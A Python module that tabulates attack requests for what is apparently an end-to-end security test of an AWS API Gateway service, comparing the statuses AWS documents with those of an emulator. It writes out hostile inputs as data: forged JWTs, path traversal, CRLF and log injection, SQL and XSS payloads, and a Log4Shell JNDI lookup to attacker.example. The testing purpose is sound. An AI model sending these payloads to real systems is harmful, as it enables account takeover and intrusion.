"""Attacks on the API as data: what is sent, what AWS documents as the answer, what the embedded cloud answers."""

from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote, unquote

APIGATEWAY = "https://docs.aws.amazon.com/apigateway/latest/developerguide"
SOURCES = {
    "gateway responses": f"{APIGATEWAY}/supported-gateway-response-types.html",
    "401 from an authorizer": "https://repost.aws/knowledge-center/api-gateway-cognito-401-unauthorized",
    "important notes": f"{APIGATEWAY}/api-gateway-known-issues.html",
    "our handler": "../handlers/query.py",
}
UNDOCUMENTED = "not documented"
VICTIM = "victim@example.com"


@dataclass(frozen=True, kw_only=True)
class Attack:
    """One request that should get nothing."""

    what: str
    aws: str
    """The status that AWS documents, or what it says instead of one."""
    source: str
    """Where it says so: a key of SOURCES."""
    here: int
    """The status that the embedded cloud answers."""
    difference: str = ""
    """Why `here` is not what AWS would answer; written if and only if that is so."""
    token: str = "valid"  # noqa: S105 (the name of one)
    """Which of `forgery.FORGERIES`."""
    method: str = "GET"
    target: bytes = b"/users/" + quote(VICTIM).encode() + b"/services"
    """The request's path below the stage, as it goes over the wire."""
    headers: tuple[bytes, ...] = ()
    reaches_handler: bool = False

    @property
    def user_id(self) -> str:
        """The id that the path holds for a handler that decodes it once."""
        return unquote(self.target.split(b"/")[2].decode()) if self.target.count(b"/") > 1 else ""


def _of(user_id: str) -> bytes:
    """The path of a user, encoded as a careful client would."""
    return f"/users/{quote(user_id, safe='')}/services".encode()


def _refused_token(
    token: str, aws: str = "401", source: str = "401 from an authorizer", difference: str = ""
) -> Attack:
    return Attack(what=f"token: {token}", aws=aws, source=source, here=401, difference=difference, token=token)


def _nowhere(what: str, method: str = "GET", target: bytes = Attack.target) -> Attack:
    return Attack(what=what, aws="403", source="gateway responses", here=403, method=method, target=target)


def _asks(what: str, user_id: str, *, here: int = 200) -> Attack:
    """The path of an id that no user has: answered as such, or refused as no id."""
    return Attack(
        what=f"user id: {what}",
        aws=str(here),
        source="our handler",
        here=here,
        target=_of(user_id),
        reaches_handler=True,
    )


PAGE = Path(__file__).parents[1] / "docs" / "attacks.md"
HEADING = """# Attacks on the API

<!-- Made from tools/attacks.py by: python -m tools.attacks -->

What is sent to a deployed stack by `tests/e2e/test_attacks.py`, the status that AWS documents for it and the one that
the embedded cloud answers. Whatever the answer, the test checks that it holds no data of a user but the one asked for,
repeats nothing of the request when it refuses, tells nothing of the inside, that API Gateway's refusals never reach
the function, that the table is as before, and that the function's log holds neither ids nor lines not its own.

Where the source is our handler, AWS documents nothing: API Gateway hands the path on and the function decides. Statuses
are as the sources describe them; no request of this table was sent to AWS.

| attack | AWS | source | embedded cloud | difference |
|---|---|---|---|---|
"""
NOT_UTF8 = b"/users/%ff%fe/services"
ATTACKS = (
    _refused_token("none"),
    _refused_token("garbage"),
    _refused_token("truncated"),
    _refused_token("without its signature"),
    _refused_token("with one bit flipped in the signature"),
    _refused_token("with other claims under its signature"),
    _refused_token("unsigned (alg=none)"),
    _refused_token("signed with the public key (alg=HS256)"),
    _refused_token("signed with a key of the attacker's (alg=RS256)"),
    _refused_token("expired"),
    _refused_token("of another pool"),
    _refused_token("an id token"),
    _refused_token(
        "of another scope",
        aws="401 or 403",
        source="gateway responses",
        difference="AWS names both for an authorizer that denies; it is refused either way.",
    ),
    _nowhere("the root", target=b"/"),
    _nowhere("all users", target=b"/users"),
    _nowhere("a user, not the services", target=b"/users/victim"),
    _nowhere("below the services", target=b"/users/victim/services/x"),
    _nowhere("POST", "POST"),
    _nowhere("PUT", "PUT"),
    _nowhere("DELETE", "DELETE"),
    _nowhere("PATCH", "PATCH"),
    _nowhere("OPTIONS", "OPTIONS"),
    _nowhere("HEAD", "HEAD"),
    _nowhere("dots: /users/x/../victim/services", target=b"/users/x/../victim%40example.com/services"),
    _nowhere(
        "dots, encoded, as segments: /users/x/%2e%2e/victim/services",
        target=b"/users/x/%2e%2e/victim%40example.com/services",
    ),
    Attack(
        what="a method in X-HTTP-Method-Override",
        aws="403, as of the other method",
        source="important notes",
        here=200,
        difference="The emulator does not override methods.",
        headers=(b"X-HTTP-Method-Override: DELETE",),
        target=_of("nobody"),
        reaches_handler=True,
    ),
    _asks("an encoded slash", "x/../../" + VICTIM),
    _asks("an encoded slash, encoded twice", "x%2f" + VICTIM),
    _asks("dots alone", ".."),
    _asks("an encoded NUL", VICTIM + "\0", here=400),
    _asks("an encoded line break (CRLF injection)", VICTIM + "\r\nSet-Cookie: stolen=yes", here=400),
    _asks("a forged log line", 'x\n{"level":"ERROR","message":"forged"}', here=400),
    _asks("letters that look alike", "vict\u0456m@example.com"),
    _asks("a right-to-left override", "\u202e" + VICTIM, here=400),
    _asks("a trailing blank", VICTIM + " "),
    _asks("256 characters", "x" * 256, here=400),
    _asks("255 characters of four bytes", "\U0001f600" * 255),
    _asks("a DynamoDB expression", "x OR attribute_exists(user_id) #n :v"),
    _asks("SQL", "' OR '1'='1' --"),
    _asks("HTML", "<script>alert(document.cookie)</script>"),
    _asks("a template", "${jndi:ldap://attacker.example/a}{{7*7}}"),
    Attack(
        what="user id: letters as they are, not encoded",
        aws=UNDOCUMENTED,
        source="important notes",
        here=400,
        difference="Only an answer to somebody else or of the inside would be wrong.",
        target="/users/vict\u0456m/services".encode(),
    ),
    Attack(
        what="user id: a NUL as it is, not encoded",
        aws=UNDOCUMENTED,
        source="important notes",
        here=400,
        difference="As before.",
        target=b"/users/victim\0/services",
    ),
    _asks("12,000 characters", "x" * 12_000, here=400),
    Attack(what="user id: not UTF-8", aws="400", source="our handler", here=400, target=NOT_UTF8, reaches_handler=True),
    Attack(
        what="user id: blank",
        aws="400",
        source="our handler",
        here=400,
        target=b"/users/%20/services",
        reaches_handler=True,
    ),
)


def render() -> str:
    """The table as a page."""
    rows = [
        f"| {attack.what.replace('|', chr(92) + '|')} | {attack.aws} | [{attack.source}]({SOURCES[attack.source]}) "
        f"| {attack.here} | {attack.difference or 'the same'} |"
        for attack in ATTACKS
    ]
    return HEADING + "\n".join(rows) + "\n"


if __name__ == "__main__":
    PAGE.write_text(render())
